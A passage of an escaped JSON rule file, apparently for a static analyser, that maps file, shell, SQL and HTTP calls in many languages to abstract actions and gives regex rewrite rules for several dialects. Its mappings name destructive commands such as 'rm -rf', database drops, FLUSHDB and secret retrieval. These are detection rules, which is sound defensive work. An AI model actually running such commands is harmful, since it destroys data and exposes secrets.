edir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurren\
tUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value ."\
,"env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"\
environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0\
","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tem\
pdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"\
value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempf\
ile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\uff\
fc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\u\
fffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync\
":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\uf\
ffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create"\
:"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0\
","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","\
os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","\
vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0",\
"delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.\
remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceD\
elete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $\
0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run\
 rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tre\
e":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","lfs.rmd\
ir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0\
","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime\
.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell\
 $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0"\
,"run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"program $all","exec.Comman\
d":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","S\
ystem.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execut\
e $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $\
0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.\
write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1",\
"writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat"\
:"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open \
$0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"\
read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.Re\
adAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0","String.contentsOfFi\
le":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string\
":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_f\
iles":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0"\
,"directory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"fold\
er $0 below","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.Wal\
kDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","file\
path.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dir\
name":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format\
 $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split"\
:"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $\
1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"m\
ap $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sq\
l $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.q\
uery":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_q\
uery":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mne\
sia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"e\
val $2","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.ge\
t":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0\
 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request PO\
ST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $\
0","jenkinsItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"v\
alue $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_i\
ter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value \
$self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toStri\
ng":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self",\
"filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $\
self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $s\
elf","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self",\
"into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-text if\
-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-store\
d entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database\
 db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"\
if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if\
-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","arg\
s":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm \
-rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run c\
loud-sdk delete","getPlainText":"run Get-Secret","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm\
 -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0","appending":"join $self $0","child":"jo\
in $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"folder $self","children":"folder $self","\
read_dir":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:\
atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self $0","writeAsStringSync":"wri\
te $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self w","bufferedWriter":"open $\
self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync":"read $self","readBytes":"r\
ead $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0","puts":"send $self $0","POS\
T":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made request $0","Exec":"sql $0 | sql\
 $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","execu\
teUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sq\
l $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQ\
uery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\
\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:syml\
ink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\
\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\\
s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\\
s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\\
w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} \
else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:\
library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr)::",""],["\\\\bunlink\\\\\
b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","li\
st("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\\
))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\
\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\"\
 \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<!\
[\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1\
"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Fi\
lesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "\
],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(\
([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\\
b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,\
()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*\
(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"\
],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"(\
[\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]\
*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwh\
ere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&\
([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?\
([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?\
),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["\
(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","f\
unction $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"]\
,["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*\
|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\
\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\
\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\
\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"nam\
ed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2\
})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\
\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1\
.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+\
[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]\
])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?\
=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)",\
"$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?\
!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|\
findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\\
w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|full\
Path|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|get\
Instance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|ad\
dAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w\
[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+\
([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\
\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:\
